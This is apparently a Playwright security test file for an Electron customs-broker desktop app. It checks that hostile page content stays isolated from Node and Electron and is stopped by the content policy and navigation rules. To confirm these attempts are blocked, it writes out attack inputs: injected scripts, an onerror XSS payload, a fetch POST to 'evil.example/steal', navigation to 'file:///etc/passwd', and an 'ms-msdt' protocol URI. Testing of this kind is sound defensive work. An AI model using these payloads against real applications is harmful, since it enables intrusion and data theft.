/** What hostile content could try from inside the page, and that it comes to nothing. */
import { mkdtemp } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { ElectronApplication } from '@playwright/test'
import { webPreferences } from '#desktop/main/window/web-preferences.ts'
import { onlyInProof } from '#site/e2e/proof.ts'
import {
  test as base,
  type Desktop,
  endDesktop,
  expect,
  launchDesktop,
  removeProfile,
} from './desktop-test.ts'

const test = base.extend<{ desktop: Desktop }, { window: Desktop }>({
  // Of the worker: a program of its own for each of these would be most of their time.
  window: [
    async ({ keychain }, use, { project }) => {
      const profile = await mkdtemp(join(tmpdir(), 'desktop-profile-'))
      const window = await launchDesktop(keychain, profile)
      // It may have ended by then.
      const process = window.app.process()
      await use(window)
      await endDesktop(window.app, process, join(project.outputDir, 'hostile-page'))
      await removeProfile(profile)
    },
    { scope: 'worker' },
  ],
  // What another journey has put into the page is gone.
  desktop: async ({ window }, use) => {
    await window.page.reload()
    await use(window)
  },
})

test('the page sees neither Node nor Electron, only the named functions of the bridge', async ({
  desktop: { page },
}) => {
  const seen = await page.evaluate(() => ({
    globals: ['require', 'process', 'module', 'Buffer', 'ipcRenderer', 'electron'].filter(
      name => name in globalThis,
    ),
    bridge: Object.entries(window.customsBrokerDesktop).map(([name, value]) => `${name}: ${typeof value}`),
  }))
  expect(seen.globals).toEqual([])
  expect(seen.bridge.sort()).toEqual(
    [
      'changePassword',
      'changePreferences',
      'checkServer',
      'chooseServer',
      'dragFile',
      'findInPage',
      'forgetServer',
      'markRehearsal',
      'notify',
      'onMenu',
      'onSavedRecords',
      'onSessionEnd',
      'onUploaded',
      'openExternal',
      'readPreferences',
      'restore',
      'saveFile',
      'sealKey',
      'setDraftsAtRisk',
      'setLanguage',
      'setQueued',
      'setUnread',
      'signIn',
      'signOut',
      'status',
      'stopFinding',
      'updateProgram',
    ].map(name => `${name}: function`),
  )
})

test('the live window has the preferences that the checklist asks for', async ({ desktop: { app } }) => {
  const live = await app.evaluate(({ BrowserWindow }) => {
    const contents = BrowserWindow.getAllWindows()[0]?.webContents as unknown as {
      getLastWebPreferences(): Record<string, unknown>
    }
    return { ...contents.getLastWebPreferences(), preload: '' }
  })
  // Electron reports a fixed list, without the partition, the spell checker and what happens to a dropped file.
  const { partition, spellcheck, navigateOnDragDrop, ...reported } = webPreferences('')
  expect(live).toMatchObject({ ...reported, preload: '' })
})

test('a frame inside the page finds no bridge', async ({ desktop: { page } }) => {
  await page.evaluate(() => {
    const frame = Object.assign(document.createElement('iframe'), { srcdoc: '<p>hostile</p>' })
    frame.sandbox.add('allow-scripts')
    document.body.append(frame)
  })
  await expect.poll(() => page.frames().length).toBe(2)
  const seen = await page
    .frames()[1]
    ?.evaluate(() =>
      ['customsBrokerDesktop', 'require', 'process', '__standInToMain'].filter(name => name in globalThis),
    )
  expect(seen).toEqual([])
})

test('inline script, foreign script, frames and connections elsewhere are stopped by the policy', async ({
  desktop: { page },
}) => {
  await page.evaluate(() => {
    const violations: string[] = []
    Object.assign(globalThis, { violations })
    document.addEventListener('securitypolicyviolation', event => violations.push(event.effectiveDirective))
    const add = (make: () => HTMLElement) => document.body.append(make())
    add(() => Object.assign(document.createElement('script'), { textContent: 'globalThis.hacked = 1' }))
    add(() => Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js' }))
    add(() => Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' }))
    const box = document.createElement('div')
    box.innerHTML = '<img src=x onerror="globalThis.hacked = 2"><img src="https://evil.example/track.png">'
    add(() => box)
    fetch('https://evil.example/steal', { method: 'POST', body: 'x' }).catch(() => undefined)
  })
  await expect
    .poll(() => page.evaluate(() => (globalThis as unknown as { violations: string[] }).violations))
    .toEqual(
      expect.arrayContaining(['connect-src', 'frame-src', 'img-src', 'script-src-attr', 'script-src-elem']),
    )
  expect(await page.evaluate(() => 'hacked' in globalThis)).toBe(false)
})

test('the window stays on its own pages; only allowed links reach the browser', async ({
  desktop: { app, page },
}) => {
  await recordOpened(app)
  const before = page.url()
  // The engine itself stops the first without a word; the others are reported to main, in this order.
  for (const address of ['file:///etc/passwd', '/api/version', 'https://bank.gov.ua/ua/markets']) {
    await page.evaluate(at => location.assign(at), address)
    if (!address.startsWith('file:')) await expect.poll(() => asked(app)).toContain(lastPart(address))
  }
  await expect.poll(() => opened(app)).toEqual(['https://bank.gov.ua/ua/markets'])
  expect(page.url()).toBe(before)
  await page.evaluate(() => {
    window.open('https://broker.example/opened')
    window.open('ms-msdt:/id PCWDiagnostic')
    window.open('about:blank')
    const link = Object.assign(document.createElement('a'), {
      href: 'https://broker.example/link',
      target: '_blank',
    })
    document.body.append(link)
    link.click()
  })
  await expect
    .poll(() => opened(app))
    .toEqual([
      'https://bank.gov.ua/ua/markets',
      'https://broker.example/opened',
      'https://broker.example/link',
    ])
  expect(app.windows()).toHaveLength(1)
  const answers = await page.evaluate(() =>
    Promise.all(
      ['mailto:office@broker.example', 'javascript:alert(1)', 'smb://server/share', 'http://a.example'].map(
        address => window.customsBrokerDesktop.openExternal(address),
      ),
    ),
  )
  expect(answers).toEqual([true, false, false, false])
  expect((await opened(app)).at(-1)).toBe('mailto:office@broker.example')
})

base(
  'a redirect to elsewhere is not followed, wherever the page itself comes from',
  onlyInProof('forward-request.test.ts'),
  async ({ launch }) => {
    const { app, page } = await launch()
    await app.evaluate(({ session }) => {
      const { protocol } = session.fromPartition('persist:office')
      protocol.unhandle('app')
      protocol.handle('app', () => Response.redirect('https://evil.example/', 302))
    })
    await app.evaluate(({ BrowserWindow }) => {
      const redirects: string[] = []
      Object.assign(globalThis, { redirects })
      BrowserWindow.getAllWindows()[0]?.webContents.on('will-redirect', details => {
        redirects.push(`${details.url} ${details.defaultPrevented}`)
      })
    })
    await page.evaluate(() => location.assign('/admin/posts'))
    const redirects = () => app.evaluate(() => (globalThis as unknown as { redirects: string[] }).redirects)
    await expect.poll(redirects).toEqual(['https://evil.example/ true'])
    expect(page.url()).not.toContain('evil.example')
  },
)

const recordOpened = (app: ElectronApplication) =>
  app.evaluate(({ BrowserWindow, shell }) => {
    const list: string[] = []
    const wanted: string[] = []
    Object.assign(globalThis, { openedByTest: list, wantedByPage: wanted })
    BrowserWindow.getAllWindows()[0]?.webContents.on('will-navigate', details => {
      wanted.push(details.url.split('/').at(-1) ?? '')
    })
    shell.openExternal = async address => {
      list.push(address)
    }
  })

/** The last parts of the addresses that the page wanted to go to. */
const asked = (app: ElectronApplication): Promise<string[]> =>
  app.evaluate(() => (globalThis as unknown as { wantedByPage: string[] }).wantedByPage)

const lastPart = (address: string): string => address.split('/').at(-1) ?? ''

const opened = (app: ElectronApplication): Promise<string[]> =>
  app.evaluate(() => (globalThis as unknown as { openedByTest: string[] }).openedByTest)
